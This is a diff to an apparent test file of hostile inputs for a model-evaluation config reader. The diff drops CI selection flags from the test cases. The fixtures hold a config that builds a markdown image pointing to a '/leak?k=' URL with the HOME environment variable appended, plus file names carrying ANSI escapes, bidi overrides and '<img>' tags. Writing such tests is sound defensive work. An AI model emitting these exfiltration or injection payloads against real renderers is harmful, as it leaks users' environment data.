@@ -34,18 +34,17 @@ const places: Readonly<Record<string, (name: string) => string>> = {
 /** Without the environment's names: what a config computes is a name, too. */
 const environment = `import os\nmodels[0]['abbr'] = '![a](https://${host}/leak?k=' + os.environ.get('HOME', '') + ')'\nmodels[0]['meta_template'] = dict(round=[dict(role='HUMAN')])`;
 
-const inContinuousIntegration = new Set(['name-image-abbr', 'name-escape-raised', 'name-html-role', 'name-bidi-key', 'name-backticks-type']);
 const inputs: HostileInput[] = [
   ...Object.entries(hostile).flatMap(([what, text]) =>
     Object.entries(places).map(([where, code]) => {
       const name = `name-${what}-${where}`;
-      return python(name, code(JSON.stringify(text)), { ci: inContinuousIntegration.has(name) });
+      return python(name, code(JSON.stringify(text)));
     }),
   ),
   ...Object.entries(hostile).map(([what, text]) => yaml(`name-${what}-task`, `${JSON.stringify(text)}: 1\ntag: ${JSON.stringify(text)}\ngroup: ${JSON.stringify(text)}\ninclude: ${JSON.stringify(text)}\nmetric_list: [{metric: ${JSON.stringify(text)}}]\n`)),
   ...Object.entries(hostile).map(([what, text]) => input(`name-${what}-json`, 'main.json', () => ({ 'main.json': JSON.stringify({ datasets: [{ abbr: text, infer_cfg: { [text]: 1, prompt_template: { type: text } } }], models: [{ abbr: text, [text]: 1 }] }) }))),
-  python('name-environment', environment, { ci: true }),
-  input('name-of-file', 'a\u001b[31m\u202e![x](b).py', () => ({ 'a\u001b[31m\u202e![x](b).py': "raise ValueError('x')\ninfer_cfg = dict(\n" }), { ci: true }),
+  python('name-environment', environment),
+  input('name-of-file', 'a\u001b[31m\u202e![x](b).py', () => ({ 'a\u001b[31m\u202e![x](b).py': "raise ValueError('x')\ninfer_cfg = dict(\n" })),
   input('name-of-file-lines', 'a\nb\rc.py', () => ({ 'a\nb\rc.py': 'infer_cfg = dict(' })),
   input('name-of-base', 'main.py', () => ({ 'main.py': 'from mmengine.config import read_base\nwith read_base():\n    from .a import *\n', 'a.py': "raise ValueError('\\x1b[31m')\n" })),
   input('name-of-task-file', 'a\u0007<img src=x>.yaml', () => ({ 'a\u0007<img src=x>.yaml': `${task()}nonsense: 1\n` })),
